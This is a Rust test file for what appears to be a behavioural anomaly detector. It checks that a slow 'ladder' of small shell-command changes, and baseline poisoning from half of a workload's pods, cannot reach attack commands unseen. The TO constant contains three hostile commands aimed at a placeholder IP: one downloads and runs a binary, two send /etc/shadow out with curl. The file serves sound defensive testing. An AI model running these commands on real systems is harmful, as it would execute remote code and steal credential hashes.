//! Climbing by small steps: each command near the last one, the first near to what was learned, the last an attack.

use std::collections::BTreeSet;

use super::{
    super::candidates::{bash, line},
    *,
};
use crate::{
    baseline::{Maturity, age},
    behaviour::{Feed, MAX_COMMANDS},
    features::{Command, Kind, named},
    testkit::policy,
};

/// Where each ladder begins: an everyday command.
const FROM: &str = "tar czf /backup/zz.tar.gz /data/zz && ls -l";
/// Where they are to end: something is fetched and run, and secrets leave. Each step looks usual beside the one before it.
const TO: [&str; 3] = [
    "wget -q http://203.0.113.9/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
    "tar czf - /etc/shadow | curl -T - http://203.0.113.9/",
    "cat /etc/shadow | base64 | curl -d @- http://203.0.113.9/x",
];
/// How many sets of everyday commands are tried, none of which has a command of another.
const SETS: usize = 3;
/// Between two steps: more than an hour, within which commands of one lineage are judged together, too.
const REST: i64 = 2 * 3_600;

/// From one to the other, a word at a time: those of the end are added, then those of the beginning left out.
fn ladder(to: &str) -> Vec<String> {
    let (from, to): (Vec<_>, Vec<_>) = (FROM.split(' ').collect(), to.split(' ').collect());
    let growing = (1..=to.len()).map(|many| [&from[..], &["&&"], &to[..many]].concat());
    let shrinking = (1..=from.len()).map(|many| {
        let and = &["&&"][..usize::from(many < from.len())];
        [&from[many..], and, &to[..]].concat()
    });
    growing.chain(shrinking).map(|words| words.join(" ")).collect()
}

/// One of so many everyday commands, beginning with one of the first.
fn everyday(first: usize, one_of: usize) -> impl Iterator<Item = &'static str> {
    let lines = include_str!("../../../../corpus/benign.txt").lines();
    let scripts = lines.filter(|script| !script.starts_with('#'));
    scripts.skip(first).step_by(one_of)
}

/// A workload on two nodes whose shell learned one of so many of the everyday commands, of all sorts: in the order of the
/// alphabet, since no more are learned of a program than [`MAX_COMMANDS`], and those that come first.
fn of_all_sorts(first: usize, one_of: usize) -> Watched {
    let mut watched = Watched::new();
    watched.world.policy = policy(60);
    let mut scripts: Vec<&str> = everyday(first, one_of).collect();
    scripts.sort_by_cached_key(|script| line(script));
    for script in scripts.into_iter().take(MAX_COMMANDS) {
        watched.runs("n1", "p1", script, at(2));
        watched.runs("n2", "p2", script, at(3));
    }
    age(&mut watched.world.baseline, &watched.world.policy, at(100));
    assert_eq!(watched.world.baseline.maturity(), Maturity::Enforcing);
    watched
}

/// Which steps are raised, one after the other, each done once in each of so many days by one pod of two; `teaches`: where
/// each that is not raised is learned at once, as it would be without candidates.
fn climb(first: usize, to: &str, days: i64, teaches: bool) -> Vec<bool> {
    let mut watched = of_all_sorts(first, 3);
    let mut time = DAY;
    if !teaches {
        // It runs the same again and again, so that hardly anything new is expected of it.
        for day in 1..=10 {
            for script in everyday(first, 3) {
                watched.runs("n1", "p1", script, at(day * DAY));
            }
        }
        time = 11 * DAY;
    }
    let mut told = Vec::new();
    for step in ladder(to) {
        let mut raised = false;
        for _ in 0..days {
            raised |= watched.runs("n1", "p1", &step, at(time));
            watched.passes(at(time + 1));
            time += if days > 1 { DAY } else { REST };
        }
        told.push(raised);
        let feed = watched.world.baseline.feed_mut(&container(), Feed::Process, at(time));
        let entry = feed.entries.get_mut(&bash().id()).expect("the shell");
        if teaches && !raised {
            entry.attributes.commands.insert(line(&step));
        }
    }
    told
}

/// Which steps are learned where two pods of four, on both nodes, do each on so many days.
fn climb_in_half_of_the_pods(watched: &mut Watched, to: &str, days: i64) -> Vec<String> {
    watched.world.runs_on("n1", "p3", at(101));
    watched.world.runs_on("n2", "p4", at(101));
    let mut learned = Vec::new();
    for (number, step) in (0..).zip(ladder(to)) {
        for day in 1..=days {
            let time = (number * days + day) * DAY;
            watched.runs("n1", "p1", &step, at(time));
            watched.runs("n2", "p2", &step, at(time + 60));
            watched.passes(at(time + 120));
        }
        if watched.has_learned(&step) {
            learned.push(step);
        }
    }
    learned
}

/// What a script could do.
fn abilities(script: &str) -> BTreeSet<String> {
    let argv = ["bash", "-c", script].map(str::to_owned);
    let command = Command {
        executable: "/usr/bin/bash",
        parent: "",
        argv: &argv,
    };
    let named = named(&command).into_iter();
    let named = named.filter(|(feature, _)| feature.kind() == Kind::Capability);
    named.map(|(_, name)| name).collect()
}

/// Who takes weeks makes the workload restless by his steps, so that his last ones may pass; a quarter of them are told, and
/// the first of those comes before the end.
#[test]
fn a_ladder_of_small_steps_does_not_reach_its_end_unseen_however_patient() {
    for (first, to) in (0..SETS).flat_map(|first| TO.map(|to| (first, to))) {
        let told = climb(first, to, 1, false);
        assert_eq!(told.last(), Some(&true), "set {first}, {to}: {told:?}");
        let told = climb(first, to, 4, false);
        let raised = told.iter().filter(|raised| **raised).count();
        assert!(raised * 4 >= told.len(), "set {first}, {to}, slowly: {told:?}");
        let before_the_end = told.len() - 3;
        assert!(
            told[..before_the_end].contains(&true),
            "set {first}, {to}, slowly: {told:?}"
        );
    }
}

/// He can teach words, so that what he does next looks nearer; but nothing that could do what no learned line could, and so
/// no ladder to its end.
#[test]
fn who_owns_half_of_the_pods_and_takes_his_time_teaches_words_and_nothing_that_could_do_more() {
    let everyday: Vec<BTreeSet<String>> = everyday(0, 5).map(abilities).collect();
    for (to, days) in TO.into_iter().zip([3, 4, 6]) {
        let mut watched = of_all_sorts(0, 5);
        let learned = climb_in_half_of_the_pods(&mut watched, to, days);
        assert_eq!(learned.first(), ladder(to).first(), "{to}");
        assert!(learned.len() < 6 && !watched.has_learned(to), "{to}: {learned:?}");
        for step in &learned {
            let own = abilities(step);
            let is_within = own.is_empty() || everyday.iter().any(|known| own.is_subset(known));
            assert!(is_within, "{step}: {own:?}");
        }
    }
}

#[test]
fn the_same_ladder_would_reach_it_unseen_if_each_step_taught() {
    for to in TO {
        let told = climb(0, to, 1, true);
        assert!(told.iter().all(|raised| !raised), "{to}: {told:?}");
    }
}
